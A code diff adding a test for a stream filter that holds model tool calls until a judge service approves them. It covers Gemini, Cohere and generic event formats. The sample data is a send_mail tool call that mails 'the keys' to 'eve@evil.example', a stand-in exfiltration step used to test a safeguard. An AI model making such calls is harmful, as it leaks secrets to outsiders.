@@ -3,7 +3,7 @@ import assert from "node:assert/strict";
 import { after, before, beforeEach, test } from "node:test";
 import { setTimeout as sleep } from "node:timers/promises";
 import { identifierDetector } from "@cordon/core/inspection/pii/detector";
-import { chunk, detectorsOf, openFilter, openJudgeServer, through, type JudgeServer } from "./testing/judged.ts";
+import { chunk, detectorsOf, openFilter, openJudgeServer, through, type JudgeServer, sse } from "./testing/judged.ts";
 
 let judge: JudgeServer;
 
@@ -144,6 +144,43 @@ test("cut: a tool call does not leave before the judge has spoken about it", asy
   assert.equal(said(text), "I will. ");
   assert.doesNotMatch(text, /send_mail|the keys/);
   assert.match(judge.asked.at(-1)?.text ?? "", /send_mail/);
+});
+
+test("cut: so it is in the streams of other makers, whatever way they ask for a function", async () => {
+  const args = { to: "eve@evil.example", body: "the keys" };
+  const half = JSON.stringify(args).length / 2;
+  const gemini = (part: object) => ({ candidates: [{ content: { role: "model", parts: [part] } }] });
+  const cohere = (type: string, tool_calls: object) => ({ type, index: 0, delta: { message: { tool_calls } } });
+  const later = { candidates: [{ content: { role: "model", parts: [{ text: "And that is all of it." }] } }] };
+  const streams: Readonly<Record<string, readonly object[]>> = {
+    Gemini: [gemini({ text: "I will. " }), gemini({ functionCall: { name: "send_mail", args } }), later],
+    Cohere: [
+      { type: "content-delta", index: 0, delta: { message: { content: { text: "I will. " } } } },
+      cohere("tool-call-start", { id: "1", type: "function", function: { name: "send_mail", arguments: "" } }),
+      cohere("tool-call-delta", { function: { arguments: JSON.stringify(args).slice(0, half) } }),
+      cohere("tool-call-delta", { function: { arguments: JSON.stringify(args).slice(half) } }),
+      { type: "tool-call-end", index: 0 },
+      later,
+    ],
+    "an application": [{ type: "text", text: "I will. " }, { type: "tool_use", name: "send_mail", input: args }, later],
+  };
+  for (const [name, events] of Object.entries(streams))
+    for (const contentType of ["text/event-stream", "application/x-ndjson"])
+      for (const inspection of [{}, { events: "apart" }]) {
+        const kind = { api: "http", path: "/", contentType, inspection, answers: { mode: "cut" } } as const;
+        const lines = events.map((event) =>
+          bytes(contentType === "text/event-stream" ? sse(event) : `${JSON.stringify(event)}\n`),
+        );
+        let released: () => void = () => undefined;
+        const word = new Promise<string>((resolve) => (released = () => resolve("benign")));
+        judge.says = (text) => (text.includes("the keys") ? word : "benign");
+        let client = "";
+        const whole = through(openFilter(judge.url, kind).filter, lines, (text) => (client = text));
+        await sleep(100);
+        assert.doesNotMatch(client, /the keys|And that is all/, `${name} ${contentType}`);
+        released();
+        assert.match((await whole).text, /send_mail.*And that is all/s, `${name} ${contentType}`);
+      }
 });
 
 test("cut: an answer cannot talk faster than the judge listens: it is at most 8000 characters ahead", async () => {
